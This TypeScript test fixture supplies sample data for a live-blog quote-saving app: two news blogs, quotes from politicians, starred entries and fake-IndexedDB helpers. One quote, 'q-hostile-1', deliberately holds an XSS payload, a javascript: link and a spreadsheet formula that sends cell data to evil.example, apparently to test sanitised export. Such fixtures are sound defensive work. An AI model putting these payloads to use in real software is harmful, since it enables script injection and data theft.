// A small library used by the export, import and component tests: two blogs, quotes with and
// without speakers and notes, accents, a hostile quote, and two starred entries.
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import { openLensDb, type LensDb } from '../../../lib/store/db';
import { deriveEntry, deriveQuote } from '../../../lib/store/derive';
import type { LibrarySnapshot } from '../../../lib/store/library';
import type { BlogRow, EntryRow, QuoteRow } from '../../../lib/store/types';

export const UKRAINE = 'https://www.theguardian.com/world/live/2024/jan/02/ukraine-war-live';
export const BUDGET = 'https://www.bbc.co.uk/news/live/uk-politics-67000001';
const T = Date.UTC(2024, 0, 2, 9);

export const BLOGS: BlogRow[] = [
  { key: UKRAINE, url: UKRAINE, title: 'Ukraine war live: Zelenskyy visits front', site: 'guardian', firstVisit: T, lastVisit: T + 9e6 },
  { key: BUDGET, url: BUDGET, title: 'Budget 2024 – live updates', site: 'bbc', firstVisit: T, lastVisit: T + 9e6 },
];

function q(id: string, over: Partial<QuoteRow>): QuoteRow {
  return deriveQuote({
    id, text: '', speaker: null, blog: UKRAINE, site: 'guardian', entry: null, entryTime: null, permalink: null, savedAt: T, ...over,
  } as Omit<QuoteRow, 'search' | 'speakerKey'>) as QuoteRow;
}

export const QUOTES: QuoteRow[] = [
  q('q-starmer-1', {
    text: 'We will stand with Ukraine for as long as it takes.', speaker: 'Keir Starmer', entry: 'block-100',
    entryTime: '2024-01-02T10:15:00Z', entryTimeLabel: '10.15 GMT', permalink: `${UKRAINE}?page=with:block-100#block-100`, savedAt: T + 1000,
  }),
  q('q-macron-01', {
    text: 'Nous sommes prêts à aller plus loin.', speaker: 'Emmanuel Macrón', entry: 'block-101',
    entryTime: '2024-01-02T11:40:00Z', permalink: `${UKRAINE}?page=with:block-101#block-101`, savedAt: T + 2000, note: 'French position, summit eve',
  }),
  q('q-starmer-2', {
    text: 'Sanctions will tighten.\n\nThere is no going back.', speaker: 'Keir Starmer', entry: 'block-102',
    entryTime: '2024-01-02T09:05:00Z', permalink: null, savedAt: T + 3000,
  }),
  q('q-reeves-01', {
    text: 'Growth is up, and inflation is down to 2%.', speaker: 'Rachel Reeves', blog: BUDGET, site: 'bbc', entry: 'post-7',
    entryTime: '2024-01-02T13:30:00Z', permalink: `${BUDGET}#post-7`, savedAt: T + 4000,
  }),
  q('q-hostile-1', {
    text: '<img src=x onerror=alert(1)> *bold* [link](javascript:alert(1))\n# not a heading',
    speaker: '=HYPERLINK("http://evil.example/?"&A1)', blog: BUDGET, site: 'bbc', entry: null, entryTime: null, savedAt: T + 5000,
  }),
  q('q-nobody-01', { text: 'No comment at this time.', speaker: null, blog: BUDGET, site: 'bbc', entry: 'post-9', entryTime: '2024-01-02T14:00:00Z', savedAt: T + 6000 }),
];

function e(blog: string, id: string, over: Partial<EntryRow>): EntryRow {
  return deriveEntry({ blog, id, title: '', snippet: '', time: null, permalink: null, speakers: [], firstSeen: T, ...over } as EntryRow);
}

export const STARRED: EntryRow[] = [
  e(UKRAINE, 'block-200', {
    title: 'Drone attack on Odesa port', snippet: 'Officials say the port was hit overnight; Zelenskyy condemned the attack.',
    time: '2024-01-02T07:30:00Z', timeLabel: '07.30 GMT', permalink: `${UKRAINE}?page=with:block-200#block-200`, speakers: ['Volodymyr Zelenskyy'], starred: T + 1500,
  }),
  e(BUDGET, 'post-3', { title: 'What is in the budget', snippet: 'Fuel duty frozen; income tax thresholds unchanged.', time: '2024-01-02T12:00:00Z', starred: T + 3500, read: T + 3400 }),
];

/** The entries the quotes came from (their text joins the search). */
export const QUOTE_ENTRIES: EntryRow[] = [
  e(UKRAINE, 'block-100', { title: 'Starmer in Kyiv', snippet: 'The prime minister spoke at a press conference with Zelenskyy.', time: '2024-01-02T10:15:00Z' }),
];

/** The sample as `loadLibrary` would answer it. */
export function sampleSnapshot(): LibrarySnapshot {
  return { blogs: BLOGS.map((b) => ({ ...b })), quotes: QUOTES.map((x) => ({ ...x })), starred: STARRED.map((x) => ({ ...x })), quoteEntries: QUOTE_ENTRIES.map((x) => ({ ...x })) };
}

/** A fresh fake-indexeddb database (pass the same `factory` for a second connection to it). */
export function emptyDb(name = 'lens-export-test', factory: IDBFactory = new IDBFactory()): LensDb {
  return openLensDb(name, { indexedDB: factory, IDBKeyRange });
}

/** A fresh database holding the sample. */
export async function sampleDb(factory: IDBFactory = new IDBFactory()): Promise<LensDb> {
  const db = emptyDb(undefined, factory);
  await db.blogs.bulkPut(BLOGS);
  await db.quotes.bulkPut(QUOTES);
  await db.entries.bulkPut([...STARRED, ...QUOTE_ENTRIES]);
  return db;
}

/** Every row of the database, sorted, for comparing two libraries. */
export async function dump(db: LensDb): Promise<{ blogs: BlogRow[]; quotes: QuoteRow[]; entries: EntryRow[] }> {
  return { blogs: await db.blogs.orderBy('key').toArray(), quotes: await db.quotes.orderBy('id').toArray(), entries: await db.entries.toArray() };
}
